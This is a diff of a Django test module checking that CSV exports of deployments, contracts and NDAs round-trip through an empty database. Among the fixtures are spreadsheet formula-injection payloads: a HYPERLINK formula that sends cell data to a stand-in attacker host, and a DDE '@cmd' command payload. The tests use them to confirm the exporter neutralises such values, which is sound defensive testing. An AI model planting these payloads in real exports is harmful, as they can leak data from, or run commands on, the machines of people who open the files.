@@ -1,43 +1,44 @@
-"""The deployments CSV export, imported into an empty database, exports to the same file."""
+"""The CSV exports, imported into an empty database, export to the same bytes: ids, public
+addresses, slugs, the contracts and NDAs covering each deployment and the sources included,
+all read through the views."""
 
+import csv
 import datetime
+import io
 
 import pytest
-from django.core.management import call_command
 
-from apps.agencies.models import Agency
-from apps.contracts.models import Contract, Nda
 from apps.deployments.models import Deployment
-from apps.sources.models import Source
-from apps.vendors.models import Product, Vendor
+from apps.vendors.models import Vendor
 from tests.factories import (
     AgencyFactory,
+    ContractFactory,
     DeploymentFactory,
+    NdaFactory,
     ProductFactory,
     SourceFactory,
     VendorFactory,
     technology,
 )
+from tests.imports.helpers import empty_the_registry, export, import_data
 
 pytestmark = pytest.mark.django_db
 
-# Imports are attributed to a user (the `reviewer` fixture of tests/conftest.py): a
-# reviewer's import publishes, so what it imports is exported again.
+
+def round_trip(client, tmp_path, kinds, query=""):
+    """Export each kind, empty the database, import them in order, export again."""
+    first = {kind: export(client, kind, query) for kind in kinds}
+    empty_the_registry()
+    for kind in kinds:
+        path = tmp_path / f"{kind}.csv"
+        path.write_text(first[kind], encoding="utf-8")
+        import_data(kind, path)
+    return first, {kind: export(client, kind, query) for kind in kinds}
 
 
-def export_csv(client, query=""):
-    response = client.get(f"/deployments/export.csv?{query}")
-    assert response.status_code == 200
-    return b"".join(response.streaming_content).decode()
-
-
-def empty_the_registry():
-    for model in (Contract, Nda, Deployment, Product, Vendor, Agency, Source):
-        model.objects.all().delete()
-
-
-def test_export_imports_into_an_empty_database_and_exports_identically(client, tmp_path, reviewer):
-    shared = SourceFactory(url="https://news.example.org/shared", title="Shared report")
+def test_export_imports_into_an_empty_database_and_exports_identically(client, tmp_path):
+    empty_the_registry()  # ids from 1, as in the database the import goes into
+    shared = SourceFactory(url="https://news.example.org/shared", title="Shared | report")
     sheriff = AgencyFactory(
         name="Washington County Sheriff's Office",
         kind="sheriff",
@@ -47,13 +48,13 @@ def test_export_imports_into_an_empty_database_and_exports_identically(client, t
         longitude="-122.989800",
     )
     cloud = VendorFactory(name="Cloud, Inc. “Vision”")
-    DeploymentFactory(
+    covered = DeploymentFactory(
         agency=sheriff,
         product=ProductFactory(vendor=cloud, name="Rekognition"),
-        summary='Says "low cost",\nwith a line break and ünïcödé.',
+        summary='=HYPERLINK("https://evil.example/?"&A2,"x") says "low cost",\nünïcödé.',
         public_input="no",
         use_policy="unknown",
-        sources=[SourceFactory(url="https://z.example.org/late"), shared],
+        sources=[SourceFactory(url="https://z.example.org/late", publisher="+1+1"), shared],
     )
     DeploymentFactory(
         agency=AgencyFactory(name="Orlando Police Department", region="FL"),
@@ -64,7 +65,8 @@ def test_export_imports_into_an_empty_database_and_exports_identically(client, t
         start_date_precision="month",
         end_date=datetime.date(2018, 6, 25),
         end_date_precision="day",
-        sources=[shared],
+        summary="'@SUM(A1)",
+        sources=[shared, SourceFactory(published_date=None, published_date_precision="")],
     )
     DeploymentFactory(
         technology=technology("drones"),
@@ -73,26 +75,104 @@ def test_export_imports_into_an_empty_database_and_exports_identically(client, t
         start_date=None,
         start_date_precision="",
         status="proposed",
+        summary="-1+2",
     )
-    first = export_csv(client)
-    assert first.count("\n") > 4  # header + 5 rows, one with a line break inside quotes
+    nda = NdaFactory(agency=sheriff, counterparty_vendor=cloud)
+    contract = ContractFactory(agency=sheriff, vendor=cloud)
+    contract.deployments.add(covered)
 
-    path = tmp_path / "deployments.csv"
-    path.write_text(first, encoding="utf-8")
-    empty_the_registry()
-    call_command("import_data", "deployments", str(path), user=reviewer.username)
+    # Deployments first: they describe the agencies in full (coordinates), the others do not,
+    # and a contract's deployment_ids name them.
+    first, again = round_trip(client, tmp_path, ["deployments", "contracts", "ndas"])
 
     assert Deployment.objects.count() == 3
-    assert export_csv(client) == first
+    assert again == first
+    text = first["deployments"]
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert len(rows) == 3  # one row per deployment, whatever its number of sources
+    row = rows[str(covered.pk)]
+    assert row["url"] == f"http://testserver/deployments/{covered.pk}/"
+    assert (row["agency_slug"], row["vendor_slug"]) == (sheriff.slug, cloud.slug)
+    assert (row["contract_ids"], row["nda_ids"]) == (str(contract.pk), str(nda.pk))
+    assert row["source_urls"] == "https://news.example.org/shared | https://z.example.org/late"
+    assert row["source_titles"].startswith("Shared || report | Records show")
+    assert row["source_publishers"] == "Example Gazette | +1+1"  # only a cell's start counts
+    assert row["summary"].startswith("'=HYPERLINK(")
+    assert row["longitude"] == "-122.989800"  # a plain number is not a formula
+    assert ",''@SUM(A1)," in text  # a leading ' is escaped too, so the import can undo it
+    assert ",'-1+2," in text
+    assert Deployment.objects.get(agency__name="Orlando Police Department").summary == ("'@SUM(A1)")
+    assert Deployment.objects.get(technology__slug="drones").summary == "-1+2"
 
 
-def test_filtered_export_round_trips_too(client, tmp_path, reviewer):
-    DeploymentFactory.create_batch(3, agency=AgencyFactory(region="OR"))
+def test_filtered_export_round_trips_too(client, tmp_path):
+    empty_the_registry()
     DeploymentFactory.create_batch(2, agency=AgencyFactory(region="FL"))
-    first = export_csv(client, "region=OR")
+    DeploymentFactory.create_batch(3, agency=AgencyFactory(region="OR"))
+    # The Oregon deployments are numbered 3 to 5: the import keeps their order, not the ids.
+    first = export(client, "deployments", "region=OR")
+    empty_the_registry()
     path = tmp_path / "oregon.csv"
     path.write_text(first, encoding="utf-8")
-    empty_the_registry()
-    call_command("import_data", "deployments", str(path), user=reviewer.username)
+    import_data("deployments", path)
     assert Deployment.objects.count() == 3
-    assert export_csv(client, "region=OR") == first
+    assert sorted(Deployment.objects.values_list("pk", flat=True)) == [1, 2, 3]
+    again = export(client, "deployments", "region=OR")
+    # Only the ids and addresses differ: the other ids were never in this database.
+    assert without_ids(again) == without_ids(first)
+
+
+def without_ids(text):
+    return [row[2:] for row in csv.reader(io.StringIO(text))]
+
+
+def test_contracts_and_ndas_round_trip_through_their_views(client, tmp_path):
+    empty_the_registry()
+    aws = VendorFactory(name="Amazon Web Services")
+    sheriff = AgencyFactory(name="Washington County Sheriff's Office", ori="OR0340000")
+    contract = ContractFactory(
+        agency=sheriff,
+        vendor=aws,
+        summary="@cmd|' /C calc'!A0",
+        sources=[SourceFactory(), SourceFactory(title="Title with | a bar")],
+    )
+    contract.products.set([ProductFactory(vendor=aws, name="S3")])
+    NdaFactory(agency=sheriff, counterparty_vendor=aws, scope="+scope")
+    NdaFactory(
+        agency=AgencyFactory(),
+        counterparty_vendor=None,
+        counterparty_agency=AgencyFactory(name="Federal Bureau of Example", region=""),
+    )
+
+    first, again = round_trip(client, tmp_path, ["contracts", "ndas"])
+
+    assert again == first
+    assert len(first["contracts"].splitlines()) == 2
+    assert len(first["ndas"].splitlines()) == 3
+    assert Vendor.objects.get(name="Amazon Web Services").contracts.get().summary == (
+        "@cmd|' /C calc'!A0"
+    )
+
+
+def test_a_contracts_deployment_ids_link_only_this_agencys_deployments(client, tmp_path):
+    sheriff = AgencyFactory()
+    ours, theirs = DeploymentFactory(agency=sheriff), DeploymentFactory()
+    contract = ContractFactory(agency=sheriff)
+    contract.deployments.add(ours)
+    exported = export(client, "contracts")
+    assert f",{ours.pk}," in exported
+    path = tmp_path / "contracts.csv"
+    # As if the file came from a database where the contract also paid for deployment
+    # #<theirs>, which here is another agency's, and for #999999, which is nobody's.
+    path.write_text(
+        exported.replace(f",{ours.pk},", f",{ours.pk} | {theirs.pk} | 999999,"), encoding="utf-8"
+    )
+    contract.deployments.clear()
+
+    output = import_data("contracts", path)
+
+    assert list(contract.deployments.all()) == [ours]
+    assert (
+        f"line 2: deployment_ids: no deployment of {sheriff} has the id #{theirs.pk}, #999999 "
+        "here; not linked to the contract."
+    ) in output
